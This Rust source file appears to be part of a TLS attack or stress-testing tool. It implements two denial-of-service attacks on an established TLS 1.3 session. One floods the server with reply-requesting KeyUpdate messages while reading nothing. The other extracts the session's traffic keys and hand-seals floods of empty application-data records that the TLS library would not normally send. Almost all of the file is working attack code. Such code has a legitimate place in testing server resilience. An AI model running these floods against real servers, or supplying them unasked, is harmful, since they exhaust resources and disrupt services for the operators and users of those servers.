//! Owns the attacks on an established session: records that cost the sender nothing. Records that
//! rustls would not send are sealed here with the session's own keys. Read `mod.rs` for the list.

use std::io;
use std::sync::Arc;

use aws_lc_rs::aead::{
    AES_128_GCM, AES_256_GCM, Aad, CHACHA20_POLY1305, LessSafeKey, Nonce, UnboundKey,
};
use rustls::ConnectionTrafficSecrets;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use super::{Attack, End};
use crate::peer::Peer;

/// KeyUpdates that each ask for one in return, while nothing is read: the replies pile up at the
/// server, if it lets them (RFC 8446 §4.6.3).
pub(super) async fn key_updates(peer: &Peer, flags: &Attack) -> End {
    let Ok(stream) = Box::pin(peer.tls(flags.patience)).await else { return End::NotBegun };
    let (mut stream, mut tls) = stream.into_inner();
    let attack = async {
        let mut wire = Vec::new();
        for _ in 0..flags.records {
            tls.refresh_traffic_keys().map_err(io::Error::other)?;
            if wire.len() > BATCH_BYTES {
                stream.write_all(&wire).await?;
                wire.clear();
            }
            while tls.wants_write() {
                tls.write_tls(&mut wire)?;
            }
        }
        stream.write_all(&wire).await?;
        to_the_end(&mut stream).await
    };
    ended(tokio::time::timeout(flags.patience, attack).await)
}

/// Application data records with nothing in them.
pub(super) async fn empty_records(peer: &Peer, flags: &Attack) -> End {
    let mut config = (*peer.config).clone();
    config.enable_secret_extraction = true;
    let connect = async {
        let stream = peer.tcp().await?;
        TlsConnector::from(Arc::new(config)).connect(peer.name.clone(), stream).await
    };
    let Ok(Ok(stream)) = tokio::time::timeout(flags.patience, Box::pin(connect)).await else {
        return End::NotBegun;
    };
    let (mut stream, tls) = stream.into_inner();
    let Ok(secrets) = tls.dangerous_extract_secrets() else { return End::NotBegun };
    let Some(mut sealer) = Sealer::new(secrets.tx) else { return End::NotBegun };
    let attack = async {
        let mut wire = Vec::new();
        for _ in 0..flags.records {
            wire.extend_from_slice(&sealer.empty_record()?);
            if wire.len() > BATCH_BYTES {
                stream.write_all(&wire).await?;
                wire.clear();
            }
        }
        stream.write_all(&wire).await?;
        to_the_end(&mut stream).await
    };
    ended(tokio::time::timeout(flags.patience, attack).await)
}

/// Reads until the server closes: what it says by then is sealed and does not matter.
async fn to_the_end(stream: &mut TcpStream) -> io::Result<End> {
    let mut buffer = vec![0; 16 * 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(End::Closed)
}

fn ended(result: Result<io::Result<End>, tokio::time::error::Elapsed>) -> End {
    match result {
        Ok(Ok(end)) => end,
        Ok(Err(error)) => End::from_io(&error),
        Err(_) => End::StillOpen,
    }
}

/// Seals TLS 1.3 records (RFC 8446 §5.2, §5.3).
struct Sealer {
    key: LessSafeKey,
    iv: [u8; 12],
    sequence: u64,
}

impl Sealer {
    fn new((sequence, secrets): (u64, ConnectionTrafficSecrets)) -> Option<Self> {
        let (algorithm, key, iv) = match &secrets {
            ConnectionTrafficSecrets::Aes128Gcm { key, iv } => (&AES_128_GCM, key, iv),
            ConnectionTrafficSecrets::Aes256Gcm { key, iv } => (&AES_256_GCM, key, iv),
            ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv } => (&CHACHA20_POLY1305, key, iv),
            _ => return None,
        };
        let key = LessSafeKey::new(UnboundKey::new(algorithm, key.as_ref()).ok()?);
        Some(Self { key, iv: iv.as_ref().try_into().ok()?, sequence })
    }

    fn empty_record(&mut self) -> io::Result<Vec<u8>> {
        // The inner plaintext is the content type alone: application data (23).
        let mut record = vec![23, 3, 3, 0, 17];
        let mut inner = vec![23];
        let mut nonce = self.iv;
        for (byte, number) in nonce[4..].iter_mut().zip(self.sequence.to_be_bytes()) {
            *byte ^= number;
        }
        self.sequence += 1;
        self.key
            .seal_in_place_append_tag(
                Nonce::assume_unique_for_key(nonce),
                Aad::from(&record),
                &mut inner,
            )
            .map_err(io::Error::other)?;
        record.extend_from_slice(&inner);
        Ok(record)
    }
}

const BATCH_BYTES: usize = 16 * 1024;
